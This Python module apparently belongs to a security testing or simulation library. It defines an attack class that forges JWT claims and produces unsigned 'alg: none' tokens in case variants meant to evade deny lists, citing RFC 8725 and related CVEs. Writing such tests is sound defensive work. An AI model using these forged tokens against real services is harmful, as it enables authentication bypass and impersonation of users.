"""The header says that there is no signature."""

from typing import ClassVar

from simlib.attacks.base import Candidate, NotApplicable, Preparation, TokenAttack
from simlib.attacks.forged_claims import forge_claims
from simlib.scenario.effects import Context, Flow
from simlib.tokens.forging import forge_unsigned

SPELLINGS = ("none", "None", "nOnE")


class UnsignedToken(TokenAttack):
    """``alg: none`` in the spellings that lists of refused words have missed."""

    name: ClassVar[str] = "unsigned_token"
    summary: ClassVar[str] = "forged claims with alg none and no signature"
    source: ClassVar[str] = "RFC 8725 sections 2.1 and 3.2; CVE-2015-9235, CVE-2022-23540"
    needs: ClassVar[tuple[str, ...]] = ("encryption_jwk",)

    def prepare(self, ctx: Context) -> Flow[Preparation]:
        """Rewrite the claims."""
        made = yield from forge_claims(ctx, self.assets)
        if isinstance(made, NotApplicable):
            return made
        return tuple(
            Candidate(f"alg {word}", made.seal(forge_unsigned(made.claims, made.kid, word, made.typ)))
            for word in SPELLINGS
        )
